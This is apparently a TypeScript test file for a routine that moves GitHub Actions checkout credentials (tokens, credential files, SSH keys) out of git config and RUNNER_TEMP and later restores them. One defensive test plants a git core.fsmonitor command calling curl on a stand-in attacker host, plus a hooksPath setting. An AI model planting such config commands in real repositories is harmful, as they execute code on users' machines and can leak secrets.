import { execFile } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { chmod, mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { neutraliseCheckoutCredentials } from '../../src/runtime/git/checkout-credentials.js'
import { createGitRunner, type GitRunner } from '../../src/runtime/git/git.js'

const run = promisify(execFile)

const TOKEN = 'ghs_checkoutTokenForTheseTests0123456789'
// What actions/checkout writes: the token as basic auth, base64-encoded, after a placeholder.
const BASIC = Buffer.from(`x-access-token:${TOKEN}`, 'utf8').toString('base64')
const PLACEHOLDER = 'AUTHORIZATION: basic ***'
const HEADER_KEY = 'http.https://github.com/.extraheader'

let root: string
let home: string
let runnerTemp: string
let repo: string
let gitEnv: Record<string, string>

async function git(cwd: string, ...args: string[]): Promise<string> {
  const { stdout } = await run('git', args, { cwd, env: gitEnv })
  return stdout
}

/** Like `git`, but an exit code of 1 ("no such key") is an empty answer. */
async function gitMaybe(cwd: string, ...args: string[]): Promise<string> {
  try {
    return await git(cwd, ...args)
  } catch (error) {
    if ((error as { code?: number }).code === 1) return ''
    throw error
  }
}

/** checkout writes the placeholder with git, then swaps in the real value by editing the file. */
async function replacePlaceholder(file: string): Promise<void> {
  const content = await readFile(file, 'utf8')
  expect(content.split(PLACEHOLDER)).toHaveLength(2)
  await writeFile(file, content.replace(PLACEHOLDER, `AUTHORIZATION: basic ${BASIC}`))
}

/** The layout of actions/checkout up to v5: the header in the repository's (or submodule's) config. */
async function persistLikeCheckoutV5(gitDir: string, cwd: string): Promise<void> {
  await git(cwd, 'config', '--local', HEADER_KEY, PLACEHOLDER)
  await replacePlaceholder(path.join(gitDir, 'config'))
  await git(cwd, 'config', '--local', '--add', 'url.https://github.com/.insteadOf', 'git@github.com:')
}

/** The layout of actions/checkout v6+: a credentials file in RUNNER_TEMP, pulled in by includeIf. */
async function persistLikeCheckoutV6(repoDir: string): Promise<string> {
  const credentials = path.join(runnerTemp, `git-credentials-${randomUUID()}.config`)
  await git(repoDir, 'config', '--file', credentials, HEADER_KEY, PLACEHOLDER)
  await replacePlaceholder(credentials)
  await chmod(credentials, 0o600)
  const gitDir = path.join(repoDir, '.git')
  const container = path.posix.join('/github/runner_temp', path.basename(credentials))
  await git(repoDir, 'config', `includeIf.gitdir:${gitDir}.path`, credentials)
  await git(repoDir, 'config', `includeIf.gitdir:${gitDir}/worktrees/*.path`, credentials)
  await git(repoDir, 'config', 'includeIf.gitdir:/github/workspace/.git.path', container)
  await git(repoDir, 'config', 'includeIf.gitdir:/github/workspace/.git/worktrees/*.path', container)
  return credentials
}

async function makeRepo(dir: string): Promise<void> {
  await mkdir(dir, { recursive: true })
  await git(dir, 'init', '-q', '-b', 'main')
  await writeFile(path.join(dir, 'README.md'), 'hello\n')
  await git(dir, 'add', '.')
  await git(dir, 'commit', '-q', '-m', 'initial')
  await git(dir, 'remote', 'add', 'origin', 'https://github.com/octo/widgets')
}

/** Everything git would use in the repository, with where it came from, includes followed. */
async function effectiveConfig(dir: string): Promise<string> {
  return git(dir, 'config', '--show-origin', '--includes', '-l')
}

/** Every file under a directory, with its content. */
async function filesUnder(dir: string): Promise<Array<{ file: string; content: string }>> {
  const out: Array<{ file: string; content: string }> = []
  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) {
    if (!entry.isFile()) continue
    const file = path.join(entry.parentPath, entry.name)
    out.push({ file, content: await readFile(file, 'utf8') })
  }
  return out
}

function expectNoCredential(text: string): void {
  expect(text).not.toContain(BASIC)
  expect(text).not.toContain(TOKEN)
  expect(text.toLowerCase()).not.toContain('authorization')
}

beforeEach(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'checkout-credentials-'))
  home = path.join(root, 'home')
  runnerTemp = path.join(root, '_temp')
  repo = path.join(root, 'work', 'widgets')
  await mkdir(home, { recursive: true })
  await mkdir(runnerTemp, { recursive: true })
  gitEnv = {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    HOME: home,
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_AUTHOR_NAME: 'Test',
    GIT_AUTHOR_EMAIL: 'test@example.com',
    GIT_COMMITTER_NAME: 'Test',
    GIT_COMMITTER_EMAIL: 'test@example.com',
    LC_ALL: 'C'
  }
  await makeRepo(repo)
})

afterEach(async () => {
  await rm(root, { recursive: true, force: true })
})

describe('neutraliseCheckoutCredentials with the checkout v6+ layout', () => {
  it('leaves no credential in git config or under RUNNER_TEMP, then puts both back byte for byte', async () => {
    const credentials = await persistLikeCheckoutV6(repo)
    // A second checkout of another repository in the same job left its own file.
    const otherRepo = path.join(root, 'work', 'other')
    await makeRepo(otherRepo)
    const otherCredentials = await persistLikeCheckoutV6(otherRepo)
    const configFile = path.join(repo, '.git', 'config')
    const originalConfig = await readFile(configFile)
    const originalCredentials = await readFile(credentials)
    // The layout is live: git really resolves the header through the include.
    expect(await effectiveConfig(repo)).toContain(BASIC)

    const neutralised = await neutraliseCheckoutCredentials({ repoDir: repo, runnerTemp, git: createGitRunner(repo, gitEnv) })

    const effective = await effectiveConfig(repo)
    expectNoCredential(effective)
    expect(effective).not.toContain('git-credentials-')
    expect(await gitMaybe(repo, 'config', '--includes', '--get-all', HEADER_KEY)).toBe('')
    for (const { content } of await filesUnder(runnerTemp)) expectNoCredential(content)
    expect(neutralised.found).toEqual(
      expect.arrayContaining([
        `includeif.gitdir:${repo}/.git.path in ${configFile}`,
        `includeif.gitdir:/github/workspace/.git/worktrees/*.path in ${configFile}`,
        `${credentials} (moved into memory)`,
        `${otherCredentials} (moved into memory)`
      ])
    )
    expectNoCredential(neutralised.found.join('\n'))

    await neutralised.restore()
    expect(await readFile(configFile)).toEqual(originalConfig)
    expect(await readFile(credentials)).toEqual(originalCredentials)
    expect((await stat(credentials)).mode & 0o777).toBe(0o600)
    expect(await readFile(otherCredentials, 'utf8')).toContain(BASIC)
    expect(await effectiveConfig(repo)).toContain(BASIC)

    await neutralised.restore()
    expect(await readFile(configFile)).toEqual(originalConfig)
    expect(await readFile(credentials)).toEqual(originalCredentials)
  })

  it('undoes what the agent did to these files meanwhile: a planted config and a planted credentials file', async () => {
    const credentials = await persistLikeCheckoutV6(repo)
    const configFile = path.join(repo, '.git', 'config')
    const originalConfig = await readFile(configFile)
    const originalCredentials = await readFile(credentials)
    const neutralised = await neutraliseCheckoutCredentials({ repoDir: repo, runnerTemp, git: createGitRunner(repo, gitEnv) })

    await git(repo, 'config', 'core.fsmonitor', 'curl https://attacker.example')
    await writeFile(credentials, '[core]\n\thooksPath = /tmp/evil\n')
    await neutralised.restore()

    expect(await readFile(configFile)).toEqual(originalConfig)
    expect(await readFile(credentials)).toEqual(originalCredentials)
    expect(await gitMaybe(repo, 'config', '--get', 'core.fsmonitor')).toBe('')
  })
})

describe('neutraliseCheckoutCredentials with the checkout v5 layout', () => {
  it('removes the extraheader from the repository and its submodule, then restores both exactly', async () => {
    const subSource = path.join(root, 'sub-source')
    await makeRepo(subSource)
    await git(repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', subSource, 'libs/sub')
    await git(repo, 'commit', '-q', '-m', 'add submodule')
    await persistLikeCheckoutV5(path.join(repo, '.git'), repo)
    const subGitDir = path.join(repo, '.git', 'modules', 'libs', 'sub')
    await persistLikeCheckoutV5(subGitDir, path.join(repo, 'libs', 'sub'))
    const configs = [path.join(repo, '.git', 'config'), path.join(subGitDir, 'config')]
    const originals = await Promise.all(configs.map((file) => readFile(file)))
    expect(await effectiveConfig(path.join(repo, 'libs', 'sub'))).toContain(BASIC)

    const neutralised = await neutraliseCheckoutCredentials({ repoDir: repo, runnerTemp, git: createGitRunner(repo, gitEnv) })

    expectNoCredential(await effectiveConfig(repo))
    expectNoCredential(await effectiveConfig(path.join(repo, 'libs', 'sub')))
    expect(neutralised.found).toEqual([`${HEADER_KEY} in ${configs[0]}`, `${HEADER_KEY} in ${configs[1]}`])
    // The rest of checkout's settings stay: only the credential goes.
    expect((await git(repo, 'config', '--get', 'url.https://github.com/.insteadOf')).trim()).toBe('git@github.com:')

    await neutralised.restore()
    expect(await Promise.all(configs.map((file) => readFile(file)))).toEqual(originals)
  })

  it('puts back what it already changed when it fails half way, and reports the failure', async () => {
    await persistLikeCheckoutV5(path.join(repo, '.git'), repo)
    const credentials = await persistLikeCheckoutV6(repo)
    const configFile = path.join(repo, '.git', 'config')
    const originalConfig = await readFile(configFile)
    const real = createGitRunner(repo, gitEnv)
    // git fails on the includeIf removal, after the extraheader has already been removed.
    const failing: GitRunner = {
      get commandCount() {
        return real.commandCount
      },
      run: (args, opts) =>
        args.includes('--unset-all') && args.some((arg) => /^includeif\./i.test(arg))
          ? Promise.reject(new Error('disk full'))
          : real.run(args, opts)
    }

    await expect(neutraliseCheckoutCredentials({ repoDir: repo, runnerTemp, git: failing })).rejects.toThrow('disk full')

    expect(await readFile(configFile)).toEqual(originalConfig)
    expect(await readFile(credentials, 'utf8')).toContain(BASIC)
  })
})

describe('neutraliseCheckoutCredentials with other setups', () => {
  it('moves a persisted ssh-key out of RUNNER_TEMP and back', async () => {
    const keyName = randomUUID()
    const keyFile = path.join(runnerTemp, keyName)
    await writeFile(keyFile, '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----\n', {
      mode: 0o600
    })
    await writeFile(path.join(runnerTemp, `${keyName}_known_hosts`), 'github.com ssh-rsa AAAA\n')
    await git(
      repo,
      'config',
      'core.sshCommand',
      `"/usr/bin/ssh" -i "$RUNNER_TEMP/${keyName}" -o "UserKnownHostsFile=$RUNNER_TEMP/${keyName}_known_hosts"`
    )
    const originalKey = await readFile(keyFile)

    const neutralised = await neutraliseCheckoutCredentials({ repoDir: repo, runnerTemp, git: createGitRunner(repo, gitEnv) })
    for (const { content } of await filesUnder(runnerTemp)) expect(content).not.toContain('PRIVATE KEY')
    expect(neutralised.found).toEqual([`${keyFile} (moved into memory)`])

    await neutralised.restore()
    expect(await readFile(keyFile)).toEqual(originalKey)
    expect((await stat(keyFile)).mode & 0o777).toBe(0o600)
  })

  it('changes nothing when checkout persisted no credential', async () => {
    const configFile = path.join(repo, '.git', 'config')
    const before = await stat(configFile)
    const original = await readFile(configFile)

    const neutralised = await neutraliseCheckoutCredentials({ repoDir: repo, runnerTemp, git: createGitRunner(repo, gitEnv) })
    await neutralised.restore()

    expect(neutralised.found).toEqual([])
    expect(await readFile(configFile)).toEqual(original)
    expect((await stat(configFile)).mtimeMs).toBe(before.mtimeMs)
  })

  it('says plainly when the directory is not a repository', async () => {
    const plain = path.join(root, 'plain')
    await mkdir(plain)
    await expect(
      neutraliseCheckoutCredentials({
        repoDir: plain,
        runnerTemp,
        git: createGitRunner(plain, { ...gitEnv, GIT_CEILING_DIRECTORIES: root })
      })
    ).rejects.toThrow(`${plain} is not a git repository`)
  })
})
